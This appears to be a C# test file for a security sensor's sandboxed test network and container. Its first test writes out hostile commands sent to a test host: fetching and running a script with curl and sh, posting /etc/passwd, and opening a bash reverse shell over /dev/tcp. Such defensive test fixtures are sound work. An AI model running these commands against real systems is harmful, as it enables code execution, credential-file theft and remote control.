using System.Diagnostics;

namespace Platform.Tests.Sensor;

/// <summary>
/// The acceptance tests' test network and container, on their own (no agent): what the attacks need from them works,
/// nothing of them is left in the root namespace, and they are gone after Dispose.
/// </summary>
public sealed class TestNetworkTests
{
    private static async Task<(int Code, string Output)> Run(params string[] commandLine)
    {
        var start = new ProcessStartInfo(commandLine[0]) { RedirectStandardOutput = true, RedirectStandardError = true, RedirectStandardInput = true };
        foreach (var arg in commandLine.Skip(1))
            start.ArgumentList.Add(arg);
        using var process = Process.Start(start)!;
        process.StandardInput.Close();
        using var timeout = new CancellationTokenSource(TimeSpan.FromMinutes(2));
        var output = process.StandardOutput.ReadToEndAsync(timeout.Token);
        var error = process.StandardError.ReadToEndAsync(timeout.Token);
        await process.WaitForExitAsync(timeout.Token);
        return (process.ExitCode, await output + await error);
    }

    [Fact]
    public async Task The_test_host_serves_the_script_takes_posts_and_a_reverse_shell_and_refuses_other_ports()
    {
        string host, client;
        var passwd = File.ReadAllBytes("/etc/passwd");
        var file = $"/tmp/net-{Guid.NewGuid():N}";
        using (var network = TestNetwork.Create())
        {
            client = network.AddClient();
            host = network.HostNamespace;

            var (code, output) = await Run(TestNetwork.Enter(client, "sh", "-c", $"curl -s -o {file} http://{TestNetwork.HostAddress}/x.sh && sh {file}; rm -f {file}"));
            Assert.Equal((0, network.ScriptMarker + "\n"), (code, output));

            (code, _) = await Run(TestNetwork.Enter(client, "curl", "-s", "--data-binary", "@/etc/passwd", $"http://{TestNetwork.HostAddress}/"));
            Assert.Equal(0, code);
            Assert.Contains(network.Requests, r => r.Method == "POST" && r.Body.SequenceEqual(passwd));

            (code, _) = await Run(TestNetwork.Enter(client, "bash", "-c", $"bash -i >& /dev/tcp/{TestNetwork.HostAddress}/{TestNetwork.ShellPort} 0>&1"));
            Assert.Equal(0, code);
            await Agent.AgentTestSupport.Until(() => !network.Shells.IsEmpty, "the test host to see the shell go");

            (code, output) = await Run(TestNetwork.Enter(client, "bash", "-c", $"exec 3<>/dev/tcp/{TestNetwork.HostAddress}/{TestNetwork.ClosedPort(1)}"));
            Assert.NotEqual(0, code);
            Assert.Contains("Connection refused", output);

            // The root namespace has no route there: nothing of the test network leaks out of its namespaces.
            var (_, routes) = await Run("ip", "-o", "address");
            Assert.DoesNotContain("203.0.113.", routes);
        }

        var (_, namespaces) = await Run("ip", "netns", "list");
        Assert.DoesNotContain(host, namespaces);
        Assert.DoesNotContain(client, namespaces);
    }

    [Fact]
    public async Task A_containers_processes_are_in_its_docker_cgroup_and_its_namespace_and_the_cgroup_goes_afterwards()
    {
        string cgroup;
        using (var network = TestNetwork.Create())
        {
            using var container = TestContainer.Create(network);
            cgroup = $"/sys/fs/cgroup/pids/docker/{container.Id}";
            Assert.Matches("^[0-9a-f]{64}$", container.Id);
            var (code, output) = await Run(container.Run("sh", "-c", $"cat /proc/self/cgroup; curl -s -o /dev/null -w '%{{http_code}}' http://{TestNetwork.HostAddress}/"));
            Assert.Equal(0, code);
            Assert.Contains($"pids:/docker/{container.Id}\n", output);
            Assert.EndsWith("200", output);

            // A process still in it when it goes is killed first.
            var run = container.Run("sleep", "600");
            using var sleeping = Process.Start(run[0], run.Skip(1));
            await Agent.AgentTestSupport.Until(() => File.ReadAllText($"{cgroup}/cgroup.procs").Trim() == sleeping.Id.ToString(System.Globalization.CultureInfo.InvariantCulture), "the sleep to be in the container");
        }

        Assert.False(Directory.Exists(cgroup));
    }
}
